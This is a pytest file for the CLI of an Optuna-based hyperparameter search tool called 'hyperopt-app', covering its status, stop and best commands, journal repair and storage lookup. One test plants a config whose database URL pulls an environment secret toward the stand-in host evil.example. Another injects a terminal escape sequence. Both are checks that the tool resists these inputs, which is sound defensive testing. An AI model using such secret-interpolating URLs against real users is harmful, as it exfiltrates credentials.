# SPDX-License-Identifier: MIT
"""`hyperopt-app`: its own commands, and everything else to the application."""

from pathlib import Path

import optuna
import pytest
from omegaconf import OmegaConf
from optuna.trial import TrialState

import hyperopt_app.__main__ as application
from hyperopt_app import cli
from hyperopt_app.budget.ticket_issue import issue
from hyperopt_app.budget.verdict import begin_run, judge
from hyperopt_app.commands.look import status
from hyperopt_app.objective.outcomes import Failed
from hyperopt_app.storage.opening import open_storage
from hyperopt_app.study.opening import create_study
from hyperopt_app.study.stopping import Limits, Stop, read_stop, write_stop
from tests.unit._made_tickets import claimed, hand
from tests.unit._made_trials import made


@pytest.fixture
def study(tmp_path: Path) -> optuna.Study:
    """A study with one complete and two waiting trials, in a directory of its own."""
    study = create_study(open_storage(None, tmp_path), "holodec", ["minimize"])
    study.add_trial(made(values=[0.25]))
    issue(study, 3)
    return study


def _refusal(*words: str) -> str:
    """What the program says when it ends with a fault."""
    with pytest.raises(SystemExit) as error:
        cli.main(words)
    assert isinstance(error.value.code, str), "a message makes the exit code 1"
    return error.value.code


def test_the_status_of_a_study_is_shown(
    study: optuna.Study, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Its name, the counts and the best value; the study is left as it is."""
    before = (tmp_path / "journal.log").read_bytes()
    cli.main(["status", str(tmp_path)])
    shown = capsys.readouterr().out
    assert "holodec" in shown
    assert "0.25" in shown
    assert (tmp_path / "journal.log").read_bytes() == before


def test_the_status_says_why_nothing_is_started_and_what_goes_on(
    study: optuna.Study, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A detached study has no driver that would; a verdict has words of its own, a stop taken back has none."""
    write_stop(study, Stop("the user asked for it", is_fault=False))
    cli.main(["status", str(tmp_path)])
    asked = "stopped: the user asked for it\n2 of 3 trials are left; the same command goes on with them."
    assert asked in capsys.readouterr().out
    write_stop(study, None)
    begin_run(study, {0}, Limits())
    tickets = hand(study)
    for _ in range(2):
        tickets.settle(claimed(tickets), Failed("bug", "a typo\x1b[2J"))
    judge(study, tickets.trials(), frozenset({0}), Limits(max_failure_rate=0.0), 0.0, run=1)
    cli.main(["status", str(tmp_path)])
    assert "stopped: 2 of 2 trials failed" in (shown := capsys.readouterr().out)
    assert "\x1b[2J" not in shown
    write_stop(study, None)
    cli.main(["status", str(tmp_path)])
    assert "stopped" not in capsys.readouterr().out


def test_looking_repairs_nothing(study: optuna.Study, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Neither a torn tail nor a torn record before a whole one; both are passed over, and no file is made."""
    journal = tmp_path / "journal.log"
    lines = journal.read_bytes().splitlines(keepends=True)
    journal.write_bytes(b"".join([*lines[:-1], lines[-1][:20], lines[-1], lines[-1][:30]]))
    before = journal.read_bytes(), sorted(tmp_path.iterdir())
    cli.main(["status", str(tmp_path)])
    assert "0.25" in capsys.readouterr().out
    assert (journal.read_bytes(), sorted(tmp_path.iterdir())) == before


@pytest.mark.parametrize("command", ["status", "stop"])
def test_a_file_that_is_no_journal_is_left_alone(command: str, tmp_path: Path) -> None:
    """Whatever its name: a repair would overwrite it with blanks."""
    for name, words in (("journal.log", []), ("train.log", ["--storage", str(tmp_path / "train.log")])):
        path = tmp_path / name
        path.write_text("epoch 1: loss 0.5\nepoch 2: lo", encoding="utf-8")
        assert "this file is not a study's journal" in _refusal(command, str(tmp_path), *words)
        assert path.read_text(encoding="utf-8") == "epoch 1: loss 0.5\nepoch 2: lo"
        path.unlink()
    assert list(tmp_path.iterdir()) == []


def test_looking_makes_no_database(tmp_path: Path) -> None:
    """A misspelt one is told."""
    assert "does not exist" in _refusal("status", str(tmp_path), "--storage", f"sqlite:///{tmp_path}/zz.db")
    assert list(tmp_path.iterdir()) == []


def test_stopping_a_study_is_a_note_in_it(
    study: optuna.Study, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Workers read it before their next trial; it is nothing to mend, and nothing is thrown away."""
    cli.main(["stop", str(tmp_path)])
    stop = read_stop(optuna.load_study(study_name="holodec", storage=open_storage(None, tmp_path)))
    assert stop is not None
    assert not stop.is_fault
    assert "can be resumed" in capsys.readouterr().out
    assert [trial.state for trial in study.get_trials()].count(TrialState.WAITING) == 2


def test_the_best_trial_is_printed_as_it_is_written(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Other programs may read it from there."""
    (tmp_path / "best.yaml").write_text("trial: 3\n", encoding="utf-8")
    cli.main(["best", str(tmp_path)])
    assert capsys.readouterr().out == "trial: 3\n"


def test_a_study_without_a_best_trial_says_so(tmp_path: Path) -> None:
    """The file that is not there is named."""
    assert _refusal("best", str(tmp_path)) == (
        f"{tmp_path / 'best.yaml'} does not exist: no trial of this study has completed yet."
    )


@pytest.mark.parametrize("command", ["status", "stop"])
def test_a_directory_without_a_study_is_refused(command: str, tmp_path: Path) -> None:
    """In one line, and nothing is made there."""
    assert _refusal(command, str(tmp_path / "none")).startswith(f"{tmp_path / 'none'}: directory not found")
    assert _refusal(command, str(tmp_path)).startswith(f"{tmp_path} has no journal.log")
    assert list(tmp_path.iterdir()) == []


def test_a_directory_of_studies_is_no_study(tmp_path: Path) -> None:
    """The original's save_path holds them deeper."""
    inner = tmp_path / "studies" / "rain"
    inner.mkdir(parents=True)
    (inner / "multirun.yaml").touch()
    for command in ("status", "stop", "best"):
        assert _refusal(command, str(tmp_path)) == f"{tmp_path} is not a study's directory, but holds some: {inner}"


def test_a_study_may_be_in_a_database(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """By its URL, and by its name if there are several."""
    url = f"sqlite:///{tmp_path / 'all.db'}"
    for name in ("one", "two"):
        create_study(open_storage(url, tmp_path), name, ["minimize"])
    assert "the storage has the studies one, two" in _refusal("status", str(tmp_path), "--storage", url)
    cli.main(["status", str(tmp_path), "--storage", url, "--name", "two"])
    assert "two" in capsys.readouterr().out


@pytest.fixture
def in_database(tmp_path: Path) -> Path:
    """A study in an SQLite file that holds another one too; its directory, in which a search has left its config."""
    url = f"sqlite:///{tmp_path / 'all.db'}"
    for name in ("rain", "snow"):
        create_study(open_storage(url, tmp_path), name, ["minimize"])
    place = tmp_path / "studies" / "rain"
    place.mkdir(parents=True)
    _keep(place, "sqlite:///all.db", tmp_path)
    return place


def _keep(place: Path, storage: str, cwd: Path) -> None:
    config = {"sweeper": {"storage": storage, "study_name": "rain"}, "runtime": {"cwd": str(cwd)}}
    OmegaConf.save(OmegaConf.create({"hydra": config}), place / "multirun.yaml")


@pytest.mark.parametrize("command", ["status", "stop"])
def test_the_storage_is_that_of_the_last_search(
    command: str, in_database: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """And the study's name; a relative path counts from where the search was begun."""
    cli.main([command, str(in_database)])
    assert "rain" in capsys.readouterr().out or command == "stop"
    storage = open_storage(f"sqlite:///{tmp_path / 'all.db'}", tmp_path)
    stops = {name: read_stop(optuna.load_study(study_name=name, storage=storage)) for name in ("rain", "snow")}
    assert stops["snow"] is None
    assert (stops["rain"] is not None) is (command == "stop")


def test_a_storage_that_cannot_be_read_from_the_last_search_is_told(in_database: Path, tmp_path: Path) -> None:
    """Its password is not kept, or its file is gone, of which none is made."""
    _keep(in_database, "mysql+pymysql://me:***@host/db", tmp_path)
    assert "give --storage mysql+pymysql://me:***@host/db, with it" in _refusal("status", str(in_database))
    _keep(in_database, "sqlite:///gone.db", tmp_path)
    assert f"{tmp_path / 'gone.db'}, which holds the study according to" in _refusal("status", str(in_database))
    assert not (tmp_path / "gone.db").exists()


def test_a_file_of_others_looks_nothing_up(in_database: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoever may write it could have a secret of ours sent to a host of theirs; what stands there is used."""
    monkeypatch.setenv("MY_SECRET", "hunter2")
    _keep(in_database, "postgresql://u:${oc.env:MY_SECRET}@evil.example/db", tmp_path)
    in_database.chmod(0o777)
    refusal = _refusal("status", str(in_database))
    assert "hunter2" not in refusal
    assert "hydra.sweeper.storage is postgresql://u:${oc.env:MY_SECRET}@evil.example/db" in refusal
    assert f"because {in_database} may be written by other users (mode 777): give --storage" in refusal
    _keep(in_database, "sqlite:///all.db", tmp_path)
    cli.main(["status", str(in_database)])


def test_an_own_file_may_name_a_variable(
    in_database: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """So a URL with a password need not be given again."""
    monkeypatch.setenv("STUDIES", "sqlite:///all.db")
    _keep(in_database, "${oc.env:STUDIES}", tmp_path)
    cli.main(["status", str(in_database)])
    assert "rain" in capsys.readouterr().out


def test_a_misspelt_command_is_told_all_that_there_are(capsys: pytest.CaptureFixture[str]) -> None:
    """Those that others read too."""
    with pytest.raises(SystemExit) as error:
        cli.main(["legcy", "optimize"])
    assert error.value.code == 1
    shown = capsys.readouterr().err
    assert all(command in shown for command in ("status", "best", "stop", "submit", "legacy"))


def test_ctrl_c_is_no_traceback(study: optuna.Study, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The exit code is that of a program ended by it."""
    monkeypatch.setattr(status, "read_study_view", _interrupted)
    with pytest.raises(SystemExit) as error:
        cli.main(["status", str(tmp_path)])
    assert error.value.code == 130


def _interrupted(*_: object, **__: object) -> None:
    raise KeyboardInterrupt


@pytest.mark.parametrize("words", [[], ["--help"], ["-h"]], ids=str)
def test_help_lists_the_commands(words: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    """And says that everything else is the application."""
    with pytest.raises(SystemExit) as error:
        cli.main(words)
    assert error.value.code == 0
    shown = capsys.readouterr().out
    assert all(command in shown for command in ("status", "best", "stop", "hyperopt-app --multirun"))


@pytest.mark.parametrize("words", [["--multirun", "hparams=sphere"], ["hparams=sphere"], ["--hydra-help"]], ids=str)
def test_everything_else_goes_to_the_application(words: list[str], monkeypatch: pytest.MonkeyPatch) -> None:
    """Hydra reads the words itself."""
    called: list[bool] = []
    monkeypatch.setattr(application, "main", lambda: called.append(True))
    cli.main(words)
    assert called == [True]
